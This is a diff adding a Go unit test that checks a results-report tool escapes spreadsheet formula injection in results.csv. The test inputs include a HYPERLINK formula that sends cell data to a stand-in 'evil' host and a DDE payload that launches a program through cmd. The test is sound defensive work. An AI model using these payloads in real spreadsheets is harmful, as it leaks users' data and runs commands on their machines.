@@ -131,6 +131,29 @@ func TestResultsCSVAxes(t *testing.T) {
 	checkFloat(t, "hidden=[256,128] mean_val_loss", wide["mean_val_loss"], 0.06)
 }
 
+// TestResultsCSVFormulaInjection: axis names and values come from the
+// study file; in results.csv a spreadsheet must read them as text. The
+// tool's own negative numbers stay numbers, and results.json is unchanged.
+func TestResultsCSVFormulaInjection(t *testing.T) {
+	r := axisStudy()
+	r.Configs[0].Axis, r.Configs[0].Value = `=HYPERLINK("http://evil/?"&A1)`, "@SUM(1+1)"
+	r.Configs[1].Axis, r.Configs[1].Value = "+cmd|' /C calc'!A0", "-1+2"
+	dir := writeReport(t, r)
+	_, rows := readCSV(t, dir)
+	for i, want := range [][2]string{{`'=HYPERLINK("http://evil/?"&A1)`, "'@SUM(1+1)"}, {"'+cmd|' /C calc'!A0", "'-1+2"}} {
+		if rows[i]["axis"] != want[0] || rows[i]["value"] != want[1] {
+			t.Errorf("row %d: axis %q value %q, want %q %q", i, rows[i]["axis"], rows[i]["value"], want[0], want[1])
+		}
+	}
+	if rows[2]["value"] != "1" {
+		t.Errorf("row 2 value %q", rows[2]["value"])
+	}
+	js, _ := os.ReadFile(filepath.Join(dir, ResultsJSONFile))
+	if !bytes.Contains(js, []byte(`"axis": "=HYPERLINK(`)) {
+		t.Errorf("results.json should keep the axis as written:\n%.300s", js)
+	}
+}
+
 // TestResultsJSONMatchesCSV reads results.json back: one object per
 // configuration whose keys are the CSV columns in the same order and whose
 // values are the CSV cells (null for an empty or infinite cell).
